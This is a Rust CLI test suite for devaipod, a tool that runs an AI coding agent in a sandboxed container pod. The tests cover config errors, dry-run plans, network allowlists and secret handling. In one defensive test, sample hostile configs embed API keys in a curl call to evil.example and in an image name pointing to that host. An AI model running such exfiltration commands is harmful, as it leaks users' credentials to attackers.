//! CLI tests without an engine: help, name rules, config errors, dry-run JSON, exit codes.

mod common;

use std::path::Path;
use std::process::{Command, Output};

use common::{assert_fails_with, init_repo, plan_container};
use serde_json::Value;

/// devaipod, without the provider keys of the machine's environment (each would be a
/// built-in preset in the plans the tests read): only a test's own.
fn devaipod_cmd() -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_devaipod"));
    for v in common::PRESET_VARIABLES {
        cmd.env_remove(v);
    }
    cmd
}

fn devaipod(args: &[&str], cwd: &Path) -> Output {
    devaipod_cmd()
        .args(args)
        .current_dir(cwd)
        // No engine: a dry run must still work and say the image was not checked.
        .env("CONTAINER_HOST", "unix:///nonexistent/devaipod-test.sock")
        .output()
        .expect("devaipod runs")
}

fn repo(config: Option<&str>) -> tempfile::TempDir {
    let d = tempfile::tempdir().expect("tempdir");
    let mut files = vec![("README", "x\n")];
    if let Some(c) = config {
        files.push((".devcontainer/devcontainer.json", c));
    }
    init_repo(d.path(), &files);
    d
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

#[test]
fn help_lists_the_commands() {
    let d = tempfile::tempdir().expect("tempdir");
    let o = devaipod(&["--help"], d.path());
    assert!(o.status.success());
    let out = String::from_utf8_lossy(&o.stdout);
    for cmd in [
        "up",
        "list",
        "status",
        "stop",
        "start",
        "logs",
        "delete",
        "completions",
    ] {
        assert!(out.contains(cmd), "{out}");
    }
    assert!(
        !out.contains("__probe"),
        "the internal probe is hidden: {out}"
    );
    let o = devaipod(&["up", "--help"], d.path());
    let out = String::from_utf8_lossy(&o.stdout);
    for flag in ["--name", "--image", "--dry-run", "--json"] {
        assert!(out.contains(flag), "{out}");
    }
}

#[test]
fn feature_pull_refuses_what_it_cannot_fetch_without_the_network() {
    let d = tempfile::tempdir().expect("tempdir");
    let cache = tempfile::tempdir().expect("tempdir");
    let pull = |reference: &str| {
        devaipod_cmd()
            .args(["feature", "pull", reference, "--json"])
            .current_dir(d.path())
            .env("XDG_CACHE_HOME", cache.path())
            .output()
            .expect("devaipod runs")
    };
    assert_fails_with(
        &pull("devcontainers/features/node:1"),
        "does not name a registry: write it fully qualified",
    );
    assert_fails_with(
        &pull("http://example.invalid/devcontainer-feature-x.tgz"),
        "only over HTTPS",
    );
    assert!(
        std::fs::read_dir(cache.path())
            .expect("read")
            .next()
            .is_none(),
        "a refused pull wrote to the cache"
    );
}

#[test]
fn completions_are_generated() {
    let d = tempfile::tempdir().expect("tempdir");
    for shell in ["bash", "zsh", "fish"] {
        let o = devaipod(&["completions", shell], d.path());
        assert!(o.status.success(), "{shell}");
        assert!(
            String::from_utf8_lossy(&o.stdout).contains("devaipod"),
            "{shell}"
        );
    }
}

#[test]
fn bad_names_are_refused_before_anything_else() {
    let r = repo(Some(r#"{"image": "localhost/x:1"}"#));
    for bad in [
        "Bad",
        "-x",
        "a b",
        "devaipod-devaipod-x",
        &"a".repeat(55),
        "x/../y",
    ] {
        let o = devaipod(
            &["up", ".", &format!("--name={bad}"), "--dry-run"],
            r.path(),
        );
        assert_eq!(o.status.code(), Some(1), "{bad}");
        assert!(stderr(&o).contains("--name"), "{bad}: {}", stderr(&o));
    }
    for bad in ["Bad", "devaipod-", "a:b"] {
        let o = devaipod(&["delete", bad], r.path());
        assert_eq!(o.status.code(), Some(1), "{bad}");
        assert!(stderr(&o).contains("name"), "{bad}: {}", stderr(&o));
    }
}

#[test]
fn usage_errors_exit_2() {
    let d = tempfile::tempdir().expect("tempdir");
    let o = devaipod(&["up", "--no-such-flag"], d.path());
    assert_eq!(o.status.code(), Some(2));
    let o = devaipod(&["up", "--label", "novalue"], d.path());
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn dry_run_json_without_an_engine() {
    let r = repo(Some(
        "// c\n{\"image\": \"localhost/x:1\", \"workspaceFolder\": \"/src\", \"remoteUser\": \"dev\",}",
    ));
    let o = devaipod(
        &["up", ".", "--name", "demo", "--dry-run", "--json"],
        r.path(),
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v["name"], "demo");
    assert_eq!(v["pod"]["name"], "devaipod-demo");
    assert_eq!(v["pod"]["share"], serde_json::json!(["net"]));
    assert_eq!(v["image"]["ref"], "localhost/x:1");
    assert_eq!(v["image"]["state"], "unknown");
    let containers = v["containers"].as_array().expect("containers");
    let roles: Vec<&str> = containers
        .iter()
        .filter_map(|c| c["role"].as_str())
        .collect();
    assert_eq!(roles, ["workspace", "agent", "rules", "proxy"]);
    assert_eq!(v["network"]["mode"], "allowlist");
    for key in [
        "role",
        "name",
        "image",
        "command",
        "user",
        "cap_drop",
        "cap_add",
        "security_opt",
        "mounts",
        "env_names",
        "secrets",
        "labels",
    ] {
        for c in containers {
            assert!(c.get(key).is_some(), "container lacks {key}: {c}");
        }
    }
    let agent = plan_container(&v, "agent");
    assert_eq!(agent["cap_drop"], serde_json::json!(["ALL"]));
    assert_eq!(
        agent["security_opt"],
        serde_json::json!(["no-new-privileges", "seccomp=devaipod-agent"])
    );
    assert_eq!(agent["read_only"], true);
    assert_eq!(
        agent["secrets"][0]["target"],
        "/run/secrets/devaipod-opencode-password"
    );
    assert_eq!(v["secrets"][0]["name"], "devaipod-demo-agent-password");
    assert_eq!(v["secrets"][0]["source"]["kind"], "generated");
    assert_eq!(agent["user"], "4096:4096");
    assert!(
        agent["command"][2]
            .as_str()
            .is_some_and(|c| c.contains("exec \"$OC\" serve"))
    );
    let ws = plan_container(&v, "workspace");
    assert_eq!(ws["mounts"][0]["target"], "/src");
    assert_eq!(ws["labels"]["io.devaipod.pod"], "demo");
    assert_eq!(ws["labels"]["io.devaipod.role"], "workspace");
    // The clones and the agent's home, then the network's state and marker.
    assert!(v["volumes"].as_array().is_some_and(|a| a.len() == 5));
    assert!(v["secrets"].as_array().is_some());
    // The human form says the same without an engine.
    let o = devaipod(&["up", ".", "--name", "demo", "--dry-run"], r.path());
    assert!(o.status.success());
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains("devaipod-demo") && out.contains("not checked"),
        "{out}"
    );
}

#[test]
fn config_errors_name_file_line_and_column() {
    let r = repo(Some(
        "{\n  \"image\": \"localhost/x:1\"\n  \"remoteUser\": \"dev\"\n}\n",
    ));
    let o = devaipod(&["up", ".", "--dry-run"], r.path());
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(
        err.contains(".devcontainer/devcontainer.json:2:27:"),
        "{err}"
    );
    assert!(err.contains("comma"), "{err}");
}

#[test]
fn a_config_without_an_image_is_a_clear_error() {
    // (A repo with no devcontainer.json at all runs in the bundled image: tests/podman.)
    let r = repo(Some("{\"remoteUser\": \"dev\"}\n"));
    let o = devaipod(&["up", ".", "--dry-run"], r.path());
    assert_fails_with(&o, "names no \"image\" and no \"build\"");
    assert_fails_with(&o, "--image");
}

#[test]
fn not_a_repo_is_a_clear_error() {
    let d = tempfile::tempdir().expect("tempdir");
    let o = devaipod(&["up", ".", "--image", "x", "--dry-run"], d.path());
    assert_fails_with(&o, "not inside a git repository");
}

#[test]
fn unsupported_container_host_is_explained() {
    let d = tempfile::tempdir().expect("tempdir");
    let o = devaipod_cmd()
        .args(["delete", "x"])
        .env("CONTAINER_HOST", "ssh://core@host/run/podman/podman.sock")
        .current_dir(d.path())
        .output()
        .expect("runs");
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(
        err.contains("CONTAINER_HOST") && err.contains("unix://"),
        "{err}"
    );
    assert!(!err.contains("panicked"), "{err}");
}

#[test]
fn missing_podman_says_what_to_install() {
    // devaipod looks for a running service before it looks for podman, so the test
    // takes every service away from it: no CONTAINER_HOST, an empty PATH, empty
    // XDG_RUNTIME_DIR and HOME, and, when run as root (whose /run/podman/podman.sock may
    // have a service), another uid (nobody) that has no service anywhere.
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;
    let root = nix::unistd::geteuid().is_root();
    let uid = if root {
        65534
    } else {
        nix::unistd::geteuid().as_raw()
    };
    let home = tempfile::tempdir().expect("tempdir");
    // nobody must reach the binary and the directories: a world-readable copy (a hard
    // link when it can) in a world-readable directory.
    std::fs::set_permissions(home.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let bin = home.path().join("devaipod");
    let built = Path::new(env!("CARGO_BIN_EXE_devaipod"));
    if std::fs::hard_link(built, &bin).is_err() {
        std::fs::copy(built, &bin).expect("copy devaipod");
    }
    let runtime = home.path().join("runtime");
    let empty_path = home.path().join("empty-path");
    for d in [&runtime, &empty_path] {
        std::fs::create_dir(d).expect("mkdir");
    }
    let sockets = [
        runtime.join("podman/podman.sock"),
        std::path::PathBuf::from(format!("/run/user/{uid}/podman/podman.sock")),
        std::path::PathBuf::from(format!("/tmp/podman-run-{uid}/podman/podman.sock")),
    ];
    let listening: Vec<_> = sockets
        .iter()
        .filter(|s| std::os::unix::net::UnixStream::connect(s).is_ok())
        .collect();
    assert!(
        listening.is_empty(),
        "a Podman service of uid {uid} listens on {listening:?}, so devaipod would use it and \
         this test could not see the missing podman: stop it (`systemctl --user stop \
         podman.socket podman.service`) or run the test as root (it then runs devaipod as \
         nobody)"
    );
    let mut cmd = Command::new(&bin);
    cmd.args(["delete", "x"])
        .env_remove("CONTAINER_HOST")
        .env("PATH", &empty_path)
        .env("HOME", home.path())
        .env("XDG_RUNTIME_DIR", &runtime)
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("XDG_STATE_HOME")
        .current_dir(home.path());
    if root {
        cmd.uid(uid).gid(uid);
    }
    let o = cmd.output().expect("runs");
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(err.contains("podman is not installed"), "{err}");
    assert!(err.contains("apt-get install podman"), "{err}");
}

#[test]
fn named_configs_without_a_default_need_config() {
    let d = tempfile::tempdir().expect("tempdir");
    init_repo(
        d.path(),
        &[
            (
                ".devcontainer/python/devcontainer.json",
                r#"{"image": "localhost/py:1"}"#,
            ),
            (
                ".devcontainer/rust/devcontainer.json",
                r#"{"image": "localhost/rs:1"}"#,
            ),
        ],
    );
    let o = devaipod(&["up", ".", "--dry-run"], d.path());
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(
        err.contains(".devcontainer/python/devcontainer.json"),
        "{err}"
    );
    assert!(
        err.contains(".devcontainer/rust/devcontainer.json"),
        "{err}"
    );
    assert!(err.contains("--config"), "{err}");
    let o = devaipod(
        &[
            "up",
            ".",
            "--config",
            ".devcontainer/rust/devcontainer.json",
            "--dry-run",
            "--json",
        ],
        d.path(),
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v["image"]["ref"], "localhost/rs:1");
    let o = devaipod(&["up", ".", "--config", "nope.json", "--dry-run"], d.path());
    assert_fails_with(&o, "--config nope.json: no such file");
}

#[test]
fn variables_are_substituted_and_host_env_stays_out_of_the_pod() {
    let r = repo(Some(
        r#"{"image": "localhost/x:${localEnv:DEVAIPOD_TEST_TAG:1}", "workspaceFolder": "/src/${localWorkspaceFolderBasename}"}"#,
    ));
    let o = devaipod_cmd()
        .args(["up", ".", "--name", "v", "--dry-run", "--json"])
        .current_dir(r.path())
        .env("CONTAINER_HOST", "unix:///nonexistent/devaipod-test.sock")
        .env("DEVAIPOD_TEST_TAG", "7")
        .output()
        .expect("runs");
    assert!(o.status.success(), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v["image"]["ref"], "localhost/x:7");
    let base = r
        .path()
        .file_name()
        .expect("name")
        .to_string_lossy()
        .into_owned();
    assert_eq!(v["repo"]["workspace_folder"], format!("/src/{base}"));

    let r = repo(Some(
        r#"{"image": "x", "workspaceFolder": "/w/${localEnv:GH_TOKEN}"}"#,
    ));
    let o = devaipod_cmd()
        .args(["up", ".", "--dry-run", "--json"])
        .current_dir(r.path())
        .env("CONTAINER_HOST", "unix:///nonexistent/devaipod-test.sock")
        .env("GH_TOKEN", "secret-value-123")
        .output()
        .expect("runs");
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(
        err.contains("\"workspaceFolder\" uses ${localEnv:"),
        "{err}"
    );
    assert!(!err.contains("secret-value-123"), "{err}");
    assert!(o.stdout.is_empty());
}

#[test]
fn a_repo_cannot_read_a_provider_key_or_a_secret_from_the_host() {
    // A hostile devaipod.json could otherwise carry the key into an image name (pulled
    // on the host), a build argument or a lifecycle command: no consent covers those.
    let sentinel = "sk-ant-dvpt-repo-env-sentinel";
    let cfg = tempfile::tempdir().expect("tempdir");
    let toml = cfg.path().join("devaipod.toml");
    std::fs::write(
        &toml,
        "[trusted]\nsecrets = [\"DVPT_FORGE_TOKEN\"]\n[agent.credentials.local]\nbase_url = \"https://llm.example.org/v1\"\nheader = \"authorization\"\nsecret = \"DVPT_LOCAL_KEY\"\n",
    )
    .expect("write");
    for (config, name, at) in [
        (
            "{\"image\": \"evil.example/x:${localEnv:ANTHROPIC_API_KEY}\"}",
            "ANTHROPIC_API_KEY",
            ":1:27",
        ),
        (
            "{\"image\": \"localhost/x:1\",\n \"postCreateCommand\": \"curl https://evil.example/?k=${env:GEMINI_API_KEY:none}\"}",
            "GEMINI_API_KEY",
            ":2:53",
        ),
        (
            "{\"image\": \"localhost/x:1\", \"initializeCommand\": \"echo ${localEnv:DVPT_FORGE_TOKEN}\"}",
            "DVPT_FORGE_TOKEN",
            ":1:55",
        ),
        (
            "{\"image\": \"localhost/x:1\", \"containerEnv\": {\"K\": \"${localEnv:DVPT_LOCAL_KEY}\"}}",
            "DVPT_LOCAL_KEY",
            ":1:51",
        ),
    ] {
        let r = repo(Some(config));
        let file = r.path().join(".devcontainer/devcontainer.json");
        let file = file.canonicalize().unwrap_or(file);
        for args in [
            &["up", ".", "--dry-run", "--json"][..],
            &["config", "."][..],
        ] {
            let o = devaipod_cmd()
                .args(args)
                .current_dir(r.path())
                .env("CONTAINER_HOST", "unix:///nonexistent/devaipod-test.sock")
                .env("DEVAIPOD_CONFIG", &toml)
                .env(name, sentinel)
                .output()
                .expect("runs");
            let err = stderr(&o);
            assert_fails_with(
                &o,
                &format!(
                    "{}{at}: ${{localEnv:{name}}} names a key devaipod keeps out of a repository's reach",
                    file.display()
                ),
            );
            assert!(
                !err.contains(sentinel) && !String::from_utf8_lossy(&o.stdout).contains(sentinel),
                "{args:?}: {err}"
            );
        }
    }
    // Other variables are read as the reference reads them.
    let r = repo(Some("{\"image\": \"localhost/x:${localEnv:DVPT_TAG}\"}"));
    let o = devaipod_cmd()
        .args(["up", ".", "--name", "v", "--dry-run", "--json"])
        .current_dir(r.path())
        .env("CONTAINER_HOST", "unix:///nonexistent/devaipod-test.sock")
        .env("DEVAIPOD_CONFIG", &toml)
        .env("DVPT_TAG", "9")
        .output()
        .expect("runs");
    assert!(o.status.success(), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v["image"]["ref"], "localhost/x:9");
}

#[test]
fn ignored_properties_are_warned_about() {
    let r = repo(Some(
        r#"{"image": "x", "secrets": {}, "userEnvProbe": "loginShell", "imagee": 1}"#,
    ));
    let o = devaipod(&["up", ".", "--name", "w", "--dry-run", "--json"], r.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    let warnings: Vec<&str> = v["warnings"]
        .as_array()
        .expect("warnings")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    for want in [
        "\"secrets\" is not applied",
        "\"userEnvProbe\" is not applied",
        "unknown property \"imagee\"",
    ] {
        assert!(
            warnings.iter().any(|w| w.contains(want)),
            "{want}: {warnings:?}"
        );
    }
}

#[test]
fn config_prints_the_reading_without_an_engine() {
    let r = repo(Some(
        r#"{"image": "localhost/x:1", "name": "${localWorkspaceFolderBasename}", "settings": {"a": 1}, "oops": 1}"#,
    ));
    let o = devaipod(&["config", ".", "--json"], r.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    let base = r
        .path()
        .file_name()
        .expect("name")
        .to_string_lossy()
        .into_owned();
    let c = &v["configuration"];
    assert_eq!(c["name"], base.as_str());
    assert_eq!(
        c["customizations"]["vscode"]["settings"]["a"], 1,
        "legacy settings migrate"
    );
    assert!(c.get("settings").is_none());
    assert!(
        c["configFilePath"]["fsPath"]
            .as_str()
            .is_some_and(|p| p.ends_with(".devcontainer/devcontainer.json"))
    );
    assert_eq!(
        v["workspace"]["workspaceFolder"],
        format!("/workspaces/{base}")
    );
    assert!(v.get("mergedConfiguration").is_none());
    assert!(
        v["mergedConfigurationNote"]
            .as_str()
            .is_some_and(|n| n.contains("localhost/x:1")),
        "{v}"
    );
    assert!(
        v["warnings"]
            .to_string()
            .contains("unknown property \\\"oops\\\""),
        "{v}"
    );
    // The human form.
    let o = devaipod(&["config"], r.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains("image      localhost/x:1") && out.contains("unknown property"),
        "{out}"
    );
    // No config at all.
    let empty = repo(None);
    let o = devaipod(&["config", "."], empty.path());
    assert_fails_with(&o, "no .devcontainer/devcontainer.json");
}

#[test]
fn user_config_errors_are_precise_and_secrets_must_be_set() {
    let r = repo(Some(r#"{"image": "localhost/x:1"}"#));
    let dir = tempfile::tempdir().expect("tempdir");
    let cfg = dir.path().join("devaipod.toml");
    let run = |extra_env: &[(&str, &str)]| {
        let mut cmd = devaipod_cmd();
        cmd.args(["up", ".", "--name", "c", "--dry-run", "--json"])
            .current_dir(r.path())
            .env("CONTAINER_HOST", "unix:///nonexistent/devaipod-test.sock")
            .env("DEVAIPOD_CONFIG", &cfg)
            .env_remove("DEVAIPOD_TEST_KEY");
        for (k, v) in extra_env {
            cmd.env(k, v);
        }
        cmd.output().expect("runs")
    };
    std::fs::write(&cfg, "[agent]\nsecrets = []\nsecretz = []\n").expect("write");
    let o = run(&[]);
    assert_fails_with(&o, "devaipod.toml:3:1:");

    std::fs::write(&cfg, "[agent]\nsecrets = [\"A-B\"]\n").expect("write");
    let o = run(&[]);
    assert_fails_with(&o, "environment variable name");

    std::fs::write(
        &cfg,
        "[agent]\nsecrets = [\"K\"]\n[trusted]\nsecrets = [\"K\"]\n",
    )
    .expect("write");
    let o = run(&[]);
    assert_fails_with(&o, "both [agent] and [trusted]");

    // A dry run plans the secret without needing (or showing) its value.
    std::fs::write(&cfg, "[agent]\nsecrets = [\"DEVAIPOD_TEST_KEY\"]\n").expect("write");
    let o = run(&[("DEVAIPOD_TEST_KEY", "value-must-not-show")]);
    assert!(o.status.success(), "{}", stderr(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("/run/secrets/DEVAIPOD_TEST_KEY"), "{out}");
    assert!(!out.contains("value-must-not-show") && !stderr(&o).contains("value-must-not-show"));

    // DEVAIPOD_CONFIG must exist when given.
    std::fs::remove_file(&cfg).expect("rm");
    let o = run(&[]);
    assert_fails_with(&o, "reading the devaipod configuration");
}

/// `up` with the user's configuration `cfg` (written to a temp file) and extra env.
struct UserConfig {
    repo: tempfile::TempDir,
    dir: tempfile::TempDir,
}

impl UserConfig {
    fn new() -> Self {
        Self {
            repo: repo(Some(r#"{"image": "localhost/x:1"}"#)),
            dir: tempfile::tempdir().expect("tempdir"),
        }
    }

    fn file(&self) -> std::path::PathBuf {
        self.dir.path().join("devaipod.toml")
    }

    #[track_caller]
    fn run(&self, config: &str, args: &[&str], env: &[(&str, &str)]) -> Output {
        std::fs::write(self.file(), config).expect("write config");
        let mut cmd = devaipod_cmd();
        cmd.arg("up")
            .args(args)
            .current_dir(self.repo.path())
            .env("CONTAINER_HOST", "unix:///nonexistent/devaipod-test.sock")
            .env("DEVAIPOD_CONFIG", self.file())
            // Some ELF file stands for devaipod-net (a plan only names its image), so
            // the plan does not depend on whether `just net` ran; a test may override.
            .env("DEVAIPOD_NET_BIN", env!("CARGO_BIN_EXE_devaipod"))
            .env_remove("DEVAIPOD_TEST_NET_CA")
            .env_remove("DEVAIPOD_TEST_NET_HOSTS")
            .env_remove("DEVAIPOD_TEST_PRESET_URLS");
        for (k, v) in env {
            cmd.env(k, v);
        }
        cmd.output().expect("runs")
    }
}

const NETWORK_CONFIG: &str = r#"[agent]
network = "allowlist"
allow = ["*.example.org", "git.example.com:8443"]
[agent.credentials.anthropic]
base_url = "https://api.anthropic.com/v1"
header = "x-api-key"
prefix = ""
secret = "DEVAIPOD_TEST_CRED_KEY"
"#;

#[test]
fn the_network_settings_plan_and_bad_ones_are_refused_with_their_position() {
    let u = UserConfig::new();
    let dry = [".", "--name", "n", "--dry-run", "--json"];
    let o = u.run(NETWORK_CONFIG, &dry, &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert!(
        v["agent_config"]["keys"]
            .as_array()
            .is_some_and(|k| k.iter().any(|k| k == "provider")),
        "the credential provider is in the agent's configuration: {}",
        v["agent_config"]
    );
    assert_eq!(v["warnings"], serde_json::json!([]));
    let o = u.run(NETWORK_CONFIG, &[".", "--name", "n", "--dry-run"], &[]);
    assert!(o.status.success(), "{}", stderr(&o));

    // The command line overrides for one pod, and `full` is warned about; it runs no
    // proxy, so a credential route is refused with it.
    let o = u.run(
        NETWORK_CONFIG,
        &[".", "--dry-run", "--network", "full"],
        &[],
    );
    assert_fails_with(
        &o,
        &format!(
            "{}: [agent.credentials.anthropic] needs devaipod's proxy to hold the key, but this pod's network is \"full\" (--network full), which runs no proxy",
            u.file().display()
        ),
    );
    let no_credentials = NETWORK_CONFIG
        .split("[agent.credentials")
        .next()
        .expect("config");
    let o = u.run(
        no_credentials,
        &[
            ".",
            "--name",
            "n",
            "--dry-run",
            "--json",
            "--network",
            "full",
        ],
        &[],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(
        v["warnings"],
        serde_json::json!([
            "--network full: the 2 name(s) of [agent] allow are not used for this pod",
            "--network full: the agent can reach any address, including the workspace's loopback services and the host's; see docs/security.md"
        ])
    );
    let o = u.run(
        "[agent]\nsecrets = [\"DEVAIPOD_TEST_OTHER\"]\n",
        &[
            ".",
            "--name",
            "n",
            "--dry-run",
            "--allow",
            "extra.example",
            "--allow",
            "a.example:8080",
        ],
        &[],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("warning    [agent] secrets DEVAIPOD_TEST_OTHER: these secrets are inside the agent, which can read and send them; [agent.credentials] keeps a provider key in the proxy instead"),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    let o = u.run(
        "[agent]\nnetwork = \"none\"\n",
        &[".", "--dry-run", "--allow", "a.example"],
        &[],
    );
    assert_fails_with(
        &o,
        "--allow adds names to the allowlist, but this pod's network is \"none\" ([agent] network = \"none\"), which has none",
    );

    // Flags are checked before anything else (usage errors: exit 2, naming the flag).
    for (flag, value, want) in [
        (
            "--allow",
            "127.0.0.1",
            "invalid value '127.0.0.1' for '--allow <NAME>': an IP address literal",
        ),
        (
            "--allow",
            "[::1]",
            "invalid value '[::1]' for '--allow <NAME>': an IP address literal",
        ),
        (
            "--network",
            "wide",
            "invalid value 'wide' for '--network <MODE>': network mode \"wide\" is not one of",
        ),
    ] {
        let o = u.run("", &[".", "--dry-run", flag, value], &[]);
        assert_eq!(o.status.code(), Some(2), "{flag} {value}");
        assert!(stderr(&o).contains(want), "{flag} {value}: {}", stderr(&o));
    }

    let file = u.file().display().to_string();
    for (config, want) in [
        (
            "[agent]\nallow = [\"ok.example\", \"2130706433\"]\n",
            ":2:24: [agent] allow entry \"2130706433\": an IP address literal",
        ),
        (
            "[agent]\nnetwork = \"none\"\nallow = [\"a.example\"]\n",
            ":2:11: [agent] network = \"none\" takes no allow list",
        ),
        (
            "[agent.credentials.google-vertex]\nbase_url = \"https://x.example\"\nheader = \"authorization\"\nsecret = \"K\"\n",
            ":1:20: provider google-vertex cannot be given a key by devaipod's proxy: Google Vertex AI authenticates with short-lived OAuth tokens",
        ),
        (
            "[agent.credentials.a]\nbase_url = \"https://[::1]/v1\"\nheader = \"h\"\nsecret = \"K\"\n",
            ":2:12: [agent.credentials.a] base_url \"https://[::1]/v1\": an IP address literal",
        ),
        (
            "[agent.credentials.a]\nbase_url = \"https://x.example\"\nheader = \"Content-Length\"\nsecret = \"K\"\n",
            ":3:10: [agent.credentials.a] header \"Content-Length\" frames or routes the request",
        ),
        (
            &format!(
                "{NETWORK_CONFIG}[agent.opencode]\nprovider.anthropic.options.apiKey = \"k\"\n"
            ),
            ":10:28: [agent.opencode] provider.anthropic.options.apiKey conflicts with [agent.credentials.anthropic] (at 4:20)",
        ),
    ] {
        let o = u.run(config, &[".", "--dry-run"], &[]);
        assert_fails_with(&o, &format!("{file}{want}"));
    }
}

#[test]
fn a_providers_key_in_the_environment_is_a_preset_with_its_default_model() {
    let u = UserConfig::new();
    let sentinel = "sk-dvpt-cli-preset-sentinel";
    let dry = [".", "--name", "n", "--dry-run", "--json"];
    let o = u.run("", &dry, &[("ANTHROPIC_API_KEY", sentinel)]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        !String::from_utf8_lossy(&o.stdout).contains(sentinel) && !stderr(&o).contains(sentinel),
        "the dry run shows the key"
    );
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    let c = &v["network"]["credentials"];
    assert_eq!(c.as_array().map(Vec::len), Some(1), "{c}");
    assert_eq!(c[0]["provider"], "anthropic");
    assert_eq!(c[0]["base_url"], "https://api.anthropic.com/v1");
    assert_eq!(c[0]["header"], "x-api-key");
    assert_eq!(c[0]["preset"], "anthropic");
    assert_eq!(c[0]["variable"], "ANTHROPIC_API_KEY");
    assert_eq!(
        c[0]["route"],
        "http://127.0.0.1:4097/devaipod/credentials/anthropic"
    );
    assert_eq!(c[0]["paths"], serde_json::json!(["messages", "models"]));
    assert_eq!(v["agent_config"]["model"], "anthropic/claude-sonnet-4-5");
    assert_eq!(
        v["agent_config"]["model_from"],
        "the anthropic preset's default (from ANTHROPIC_API_KEY); set [agent] model or pass --model to change it"
    );
    assert_eq!(v["warnings"], serde_json::json!([]));
    // The human plan says the same.
    let o = u.run(
        "",
        &[".", "--name", "n", "--dry-run"],
        &[("GEMINI_API_KEY", sentinel)],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let text = String::from_utf8_lossy(&o.stdout);
    assert!(!text.contains(sentinel), "{text}");
    assert!(
        text.contains("credential google -> https://generativelanguage.googleapis.com/v1beta (header x-goog-api-key, built-in preset, secret devaipod-n-credential-google from GEMINI_API_KEY, in the proxy only)"),
        "{text}"
    );
    assert!(
        text.contains("agent      model google/gemini-2.5-pro (the google preset's default (from GEMINI_API_KEY); set [agent] model or pass --model to change it)"),
        "{text}"
    );

    // --model and [agent] model win; an explicit [agent.credentials.ID] wins over the
    // preset of the same id (and then there is no preset default).
    let o = u.run(
        "[agent]\nmodel = \"anthropic/claude-opus-4-5\"\n",
        &[
            ".",
            "--name",
            "n",
            "--dry-run",
            "--json",
            "--model",
            "anthropic/claude-haiku-4-5",
        ],
        &[("ANTHROPIC_API_KEY", sentinel)],
    );
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v["agent_config"]["model"], "anthropic/claude-haiku-4-5");
    assert_eq!(v["agent_config"].get("model_from"), None);
    let o = u.run(
        NETWORK_CONFIG,
        &dry,
        &[
            ("ANTHROPIC_API_KEY", sentinel),
            ("DEVAIPOD_TEST_CRED_KEY", "k"),
        ],
    );
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    let c = &v["network"]["credentials"];
    assert_eq!(c.as_array().map(Vec::len), Some(1), "{c}");
    assert_eq!(c[0].get("preset"), None, "{c}");
    assert_eq!(
        c[0].get("paths"),
        None,
        "your own route forwards every path: {c}"
    );
    assert_eq!(c[0]["variable"], "DEVAIPOD_TEST_CRED_KEY", "{c}");
    assert_eq!(v["agent_config"]["model"], Value::Null);

    // A base URL variable beside the key: the key may be a gateway's, so no preset.
    let o = u.run(
        "",
        &dry,
        &[
            ("ANTHROPIC_API_KEY", sentinel),
            ("ANTHROPIC_BASE_URL", "https://gateway.example/v1"),
        ],
    );
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v["network"]["credentials"], serde_json::json!([]), "{v}");
    assert!(
        v["warnings"][0].as_str().is_some_and(|w| w.starts_with(
            "ANTHROPIC_BASE_URL is set, so the key in ANTHROPIC_API_KEY may be for that endpoint"
        )),
        "{}",
        v["warnings"]
    );

    // Several presets: a task needs a model; without one, a warning names the choice.
    let two = [("OPENAI_API_KEY", sentinel), ("MISTRAL_API_KEY", sentinel)];
    let o = u.run("", &[".", "do something", "--name", "n", "--dry-run"], &two);
    assert_fails_with(
        &o,
        "several provider presets are in use (openai from OPENAI_API_KEY, mistral from MISTRAL_API_KEY) and no model is chosen: pass --model (e.g. --model openai/gpt-5), set [agent] model, or set [agent] providers to one of them",
    );
    let o = u.run("", &dry, &two);
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert!(
        v["warnings"][0]
            .as_str()
            .is_some_and(|w| w.starts_with("several provider presets are in use")),
        "{}",
        v["warnings"]
    );
    let o = u.run(
        "[agent]\nproviders = [\"mistral\"]\n",
        &[".", "do something", "--name", "n", "--dry-run", "--json"],
        &two,
    );
    assert!(o.status.success(), "{}", stderr(&o));
